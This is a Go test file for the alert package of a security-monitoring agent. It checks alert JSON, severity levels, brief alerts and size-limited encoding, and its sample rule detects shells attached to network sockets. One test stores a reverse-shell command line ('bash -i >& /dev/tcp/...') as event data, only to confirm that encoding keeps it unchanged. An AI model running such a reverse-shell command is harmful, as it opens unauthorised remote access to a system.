package alert_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/daemoneye/eventbus/agent/alert"
)

func sample() *alert.Alert {
	at := time.Date(2026, 11, 27, 12, 0, 0, 123456789, time.UTC)
	id, err := alert.ParseID("01JDPZ9Q2G0123456789ABCDEF")
	if err != nil {
		panic(err)
	}
	return &alert.Alert{
		ID: id, Status: alert.Acknowledged, Count: 3, First: at, Last: at.Add(time.Minute), Raised: at.Add(time.Second),
		Rule: alert.Rule{
			ID: "b2f7a6f0-1111-4222-8333-444455556666", Title: "Shell in a network connection", Description: "A shell whose input is a socket.", Level: alert.High,
			Tags: []string{"attack.execution", "attack.t1059.004"}, Path: "/etc/daemoneye/rules/shell.yml", FalsePositives: []string{"none known"}, References: []string{"https://example.com/shell"},
		},
		Correlation: true, Group: map[string]string{"user.id": "1000"},
		Host: alert.Host{ID: "11111111-2222-4333-8444-555566667777", Name: "web1", BootID: "99999999-2222-4333-8444-555566667777"}, Labels: map[string]string{"env": "prod"},
		Event:   json.RawMessage(`{"@timestamp":"2026-11-27T12:00:00.123456789Z","process":{"pid":4711,"name":"bash"}}`),
		Matched: []alert.Match{{Field: "process.name", Value: "bash", Selection: "shell"}},
		Members: []alert.Member{{Rule: "Shell", Event: json.RawMessage(`{"process":{"pid":4711}}`)}}, Incomplete: []string{"process.parent.executable was not read"},
		Context:  []json.RawMessage{json.RawMessage(`{"process":{"pid":4242,"name":"sshd"}}`)},
		DedupKey: "b2f7a6f0:bash", FoldFor: time.Hour, Silenced: "01JDPZ9Q2G0123456789ABCDEG",
		Notes: []alert.Note{{Time: at.Add(time.Hour), By: "alice", Text: "looked at"}},
	}
}

// TestTheJSONOfAnAlert compares the JSON with a file that others may read, and reads it
// back. Every field of the types stands in it.
func TestTheJSONOfAnAlert(t *testing.T) {
	a := sample()
	if empty := emptyFields(reflect.ValueOf(*a), "Alert"); len(empty) > 0 {
		t.Fatalf("the sample has no %v", empty)
	}
	got, err := json.MarshalIndent(a, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	want, err := os.ReadFile("testdata/alert.json")
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), string(got)+"\n"); diff != "" {
		t.Errorf("(-file +code):\n%s", diff)
	}
	var back alert.Alert
	if err := json.Unmarshal(want, &back); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(a, &back, cmp.Transformer("compact", func(m json.RawMessage) string {
		var b bytes.Buffer
		if err := json.Compact(&b, m); err != nil {
			return string(m)
		}
		return b.String()
	})); diff != "" {
		t.Errorf("read back (-want +got):\n%s", diff)
	}
}

func emptyFields(v reflect.Value, name string) (all []string) {
	for i := range v.NumField() {
		f := v.Field(i)
		at := name + "." + v.Type().Field(i).Name
		switch {
		case f.IsZero():
			all = append(all, at)
		case f.Kind() == reflect.Struct && strings.HasSuffix(f.Type().PkgPath(), "/alert"):
			all = append(all, emptyFields(f, at)...)
		}
	}
	return all
}

func TestABriefAlertHasNothingThatFillsIt(t *testing.T) {
	got := sample().Brief()
	if got.Event != nil || got.Context != nil || got.Matched != nil || got.Members != nil || got.Notes != nil || got.Rule.Description != "" {
		t.Errorf("got %+v", got)
	}
	if a := sample(); got.ID != a.ID || got.Count != 3 || got.Status != a.Status || got.Rule.Title != a.Rule.Title || got.Rule.Level != a.Rule.Level || got.Silenced != a.Silenced {
		t.Errorf("got %+v", got)
	}
}

func TestLevelsSortAndNameTopics(t *testing.T) {
	for i, name := range alert.Levels() {
		l, err := alert.ParseLevel(name)
		if err != nil || int(l) != i+1 || l.String() != name {
			t.Errorf("%s is %d: %v", name, l, err)
		}
		if a := (&alert.Alert{Rule: alert.Rule{Level: l}}); a.Topic() != "alerts."+name {
			t.Errorf("the topic is %s", a.Topic())
		}
	}
	if alert.Critical < alert.High || alert.Low < alert.Informational {
		t.Error("a worse level is not larger")
	}
	if _, err := alert.ParseLevel("hihg"); !errors.Is(err, alert.ErrWord) || !strings.Contains(err.Error(), "critical") {
		t.Errorf("got %v", err)
	}
	if _, err := json.Marshal(&alert.Alert{}); !errors.Is(err, alert.ErrWord) {
		t.Errorf("an alert without a level and a status has JSON: %v", err)
	}
	if alert.Status(9).String() != "status(9)" {
		t.Error(alert.Status(9))
	}
}

func TestACommandLineStaysAsItIs(t *testing.T) {
	a := sample()
	a.Event = json.RawMessage(`{"process":{"command_line":"bash -i >& /dev/tcp/<x>"}}`)
	if b, err := a.Encode(1 << 20); err != nil || !bytes.Contains(b, a.Event) {
		t.Errorf("%s: %v", b, err)
	}
}

// TestAnAlertThatIsTooLargeSaysWhatWasLeftOut goes through limits in which less and less
// has room.
func TestAnAlertThatIsTooLargeSaysWhatWasLeftOut(t *testing.T) {
	large := func(n int) json.RawMessage {
		return json.RawMessage(`{"text":"` + strings.Repeat("x", n) + `"}`)
	}
	a := sample()
	a.Context = []json.RawMessage{large(100_000), large(100_001), large(100_002)}
	a.Members = []alert.Member{{Rule: "a", Event: large(100_000)}, {Rule: "b", Event: large(100_000)}}
	a.Matched[0].Value = strings.Repeat("y", 100_000)
	a.Event = large(200_000)
	for _, tt := range []struct {
		limit                    int
		context, members         int
		matched, event, complete bool
	}{
		{1 << 20, 3, 2, true, true, true},
		{760_000, 2, 2, true, true, false},
		{620_000, 1, 2, true, true, false},
		{480_000, 0, 1, true, true, false},
		{300_000, 0, 0, false, true, false},
		{64 << 10, 0, 0, false, false, false},
	} {
		b, err := a.Encode(tt.limit)
		if err != nil || len(b) > tt.limit {
			t.Fatalf("%d bytes for a limit of %d: %v", len(b), tt.limit, err)
		}
		var got alert.Alert
		if err := json.Unmarshal(b, &got); err != nil {
			t.Fatal(err)
		}
		if len(got.Context) != tt.context || len(got.Members) != tt.members || (got.Matched != nil) != tt.matched || (got.Event != nil) != tt.event {
			t.Errorf("limit %d: %d context, %d members, matched %v, event %v", tt.limit, len(got.Context), len(got.Members), got.Matched != nil, got.Event != nil)
		}
		cut := slices.ContainsFunc(got.Incomplete, func(s string) bool { return strings.HasPrefix(s, alert.IncompleteCut) })
		if cut == tt.complete {
			t.Errorf("limit %d: incomplete is %q", tt.limit, got.Incomplete)
		}
		if tt.context > 0 && len(got.Context) > 0 && len(got.Context[len(got.Context)-1]) != len(a.Context[2]) {
			t.Errorf("limit %d: it is not the newest event that stays", tt.limit)
		}
	}
	if len(a.Context) != 3 || len(a.Incomplete) != 1 {
		t.Error("the alert itself has changed")
	}
}
